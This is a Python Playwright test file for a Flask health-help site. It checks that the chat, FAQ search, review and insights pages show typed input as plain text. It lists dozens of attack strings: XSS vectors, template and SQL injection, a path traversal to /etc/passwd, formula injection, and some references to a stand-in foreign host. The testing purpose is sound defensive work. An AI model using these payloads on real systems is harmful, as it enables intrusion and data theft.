"""Type what attackers type: no script runs, no element comes of it, and it is shown as it was written."""

from collections.abc import Callable, Iterator

import pytest
from flask import Flask
from playwright.sync_api import Page

from tests.browser.chatting import ask
from tests.browser.serving import serve
from tests.conftest import TOKEN, UNLIMITED
from tests.signing import sign
from web import create_app
from web.activity.store import COUNTS, WORDS, add, today
from web.site.review import LONGEST_LINE

# each tag has the class "naughty", by which an element that comes of it is found, and each script calls hacked()
NAUGHTY = (
    "<script class=naughty>hacked()</script>",
    "<ScRiPt class=naughty src=//foreign.example/x.js></ScRiPt>",
    "<script class=naughty\n>hacked()</script\n>",
    "<scr<script class=naughty>ipt>hacked()</scr</script>ipt>",
    "<img class=naughty src=x onerror=hacked()>",
    "<img class=naughty src=`x` onerror=hacked()>",
    "<img/class=naughty/src=x/onerror=hacked()>",
    "<IMG CLASS=naughty SRC=x ONERROR='hacked()'",
    "<<img class=naughty src=x onerror=hacked()>>",
    "<svg class=naughty onload=hacked()>",
    "<svg class=naughty><script class=naughty>hacked()</script></svg>",
    "<svg class=naughty><animate class=naughty onbegin=hacked() attributeName=x dur=1s>",
    "<svg class=naughty><use class=naughty href='data:image/svg+xml,<svg id=x onload=hacked()>#x'>",
    "<math class=naughty><mtext><table><mglyph><style><img class=naughty src=x onerror=hacked()>",
    "<iframe class=naughty src=javascript:hacked()></iframe>",
    "<iframe class=naughty srcdoc='<script>parent.hacked()</script>'>",
    "<object class=naughty data=javascript:hacked()>",
    "<embed class=naughty src=javascript:hacked()>",
    "<a class=naughty href=javascript:hacked() autofocus onfocus=hacked()>knee</a>",
    "<details class=naughty open ontoggle=hacked()>",
    "<video class=naughty><source class=naughty onerror=hacked()>",
    "<body class=naughty onload=hacked()>",
    "<input class=naughty autofocus onfocus=hacked()>",
    "<form class=naughty action=//foreign.example><button class=naughty>Send</button>",
    "<base class=naughty href=//foreign.example/>",
    "<meta class=naughty http-equiv=refresh content='0;url=//foreign.example'>",
    "<link class=naughty rel=stylesheet href=//foreign.example/x.css>",
    "<style class=naughty>*{background:url(//foreign.example)}</style>",
    "<template class=naughty><p class=naughty></template>",
    "<legpain-widget class=naughty></legpain-widget>",
    "<b class=naughty>bold</b>",
    "<!-- --><p class=naughty><!-->",
    "<![CDATA[<p class=naughty>]]>",
    "</p></div></main></body><p class=naughty>",
    "</title><p class=naughty>",
    "</textarea><p class=naughty>",
    "</script><p class=naughty>",
    "</style></noscript><p class=naughty>",
    '"><p class=naughty>',
    "'><p class=naughty>",
    '" autofocus onfocus=hacked() class="naughty',
    "' autofocus onfocus=hacked() class='naughty",
    "` onfocus=hacked() class=naughty",
    "\\\"><p class=naughty>",
    "&lt;p class=naughty&gt;",
    "&#60;p class=naughty&#62;",
    "&amp;lt;p class=naughty&amp;gt;",
    "%3Cp class=naughty%3E",
    "\\u003cp class=naughty\\u003e",
    "\uff1cp class=naughty\uff1e",
    "javascript:hacked()",
    "data:text/html,<script class=naughty>hacked()</script>",
    "[knee](javascript:hacked()) ![](//foreign.example/x.png)",
    "{{ 7 * 7 }} {% for x in () %}{{ config }}",
    "${hacked()} #{hacked()} <%= hacked() %>",
    "{{constructor.constructor('hacked()')()}}",
    "=HYPERLINK(\"//foreign.example\";\"knee\") @SUM(1) +1 -1",
    "'; DROP TABLE activity_counts; --",
    "1' OR '1'='1",
    "%s %n %d {0} {__class__}",
    "../../../../etc/passwd %00",
    "knee \u202eabc\u202c \u2066knee\u2069 \u200f<p class=naughty>",
    "k\u200bn\u200ce\u200de\ufeff<p class=naughty>",
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031e\u0349\u035a\u032f\u031e\u0320\u034d",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467\U0001f3fd\U0001f1fa\U0001f1f8<p class=naughty>",
    "undefined null NaN [object Object] __proto__ constructor",
)  # fmt: skip
ELEMENTS = "document.querySelectorAll('[class*=naughty], [onerror], [onload], [onfocus], [href^=javascript]').length"


@pytest.fixture(scope="module")
def staffed(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Flask]:
    folder = tmp_path_factory.mktemp("naughty")
    counts = {"url": f"sqlite:///{folder}/a.sqlite3"}
    app = create_app({"staff_token": TOKEN, "review_folder": folder / "signed", "activity": counts, "limits": UNLIMITED})
    yield app
    app.extensions["legpain.activity"].close()


@pytest.fixture(scope="module")
def open_tab(staffed: Flask, new_page: Callable[..., Page]) -> Iterator[Callable[[str], Page]]:
    """Open paths of the server in one tab for staff, where a script that runs is an error of the page."""
    with serve(staffed) as address:
        page = new_page(http_credentials={"username": "staff", "password": TOKEN})
        page.add_init_script("window.hacked = () => { Promise.reject(new Error('a script ran')); }")

        def open_tab(path: str) -> Page:
            page.goto(address + path)
            return page

        yield open_tab
        page.context.close()


def assert_inert(page: Page, shown: str, text: str) -> None:
    """Fail unless the script *shown* gives *text* as it was written, and no element has come of it."""
    assert page.evaluate(ELEMENTS) == 0, text
    assert page.evaluate(shown) == text


def test_chat_shows_what_was_typed_as_text(open_tab: Callable[[str], Page]) -> None:
    page = open_tab("/embed?skin=help")

    for text in NAUGHTY:
        typed = text.replace("\n", " ")  # Enter sends
        ask(page, typed)
        assert_inert(page, "[...document.querySelectorAll('[data-question]')].at(-1).textContent", typed)


def test_search_of_the_faq_keeps_what_was_typed_in_its_field(open_tab: Callable[[str], Page]) -> None:
    page = open_tab("/faq")

    for text in NAUGHTY:
        typed = text.replace("\n", " ")
        page.locator("[name=question]").fill(typed)
        with page.expect_navigation():
            page.locator("[name=question]").press("Enter")
        assert_inert(page, "document.querySelector('[name=question]').value", typed)


def test_review_shows_name_and_remark_as_text(staffed: Flask, open_tab: Callable[[str], Page]) -> None:
    signatures = staffed.extensions["legpain.signatures"]
    kept = [line for line in (" ".join(text.split()) for text in NAUGHTY) if line.isprintable()]
    for line in kept:
        sign(signatures, "sciatica", name=line, role=line, remark=line)

    page = open_tab("/review/answer/sciatica")

    assert page.evaluate(ELEMENTS) == 0
    assert len(kept) > 50
    remarks = page.evaluate("[...document.querySelectorAll('.remark')].map((remark) => remark.textContent)")
    assert sorted(remarks) == sorted(kept)


def test_review_gives_a_form_that_is_wrong_back_as_it_was_written(open_tab: Callable[[str], Page]) -> None:
    page = open_tab("/review/answer/arthritis")

    for text in NAUGHTY:
        if not text.startswith(("'", '"', "`", "\\", "</", "&", "knee")):
            continue  # it would not break out of a field
        line = " ".join(text.split())[:LONGEST_LINE]
        page.locator("[name=name]").fill(line)
        page.locator("[name=remark]").fill(line)
        page.locator(".sign form, form.sign").evaluate("form => { form.noValidate = true; }")
        with page.expect_navigation():
            page.get_by_role("button", name="Sign", exact=True).click()
        assert_inert(page, "document.querySelector('[name=name]').value", line)
        assert_inert(page, "document.querySelector('[name=remark]').value", line)


def test_insights_show_what_was_asked_as_text(staffed: Flask, open_tab: Callable[[str], Page]) -> None:
    activity, day = staffed.extensions["legpain.activity"], str(today())
    with activity.reach().begin() as connection:
        for text in NAUGHTY:
            add(connection, {(COUNTS, (f"{day}T12", "answer", "", text, "0.9-1.0", "", "v")): 9})
            add(connection, {(WORDS, (day, "no_answer", "not_documented", "v", text)): 9})

    page = open_tab("/insights")
    assert page.evaluate(ELEMENTS) == 0
    cells = page.evaluate("[...document.querySelectorAll('td, th')].map((cell) => cell.textContent.trim())")
    assert [text for text in NAUGHTY if text.strip() not in cells] == []
    assert "hacked" in open_tab("/insights/gaps").locator("main").inner_text()
    assert page.evaluate(ELEMENTS) == 0
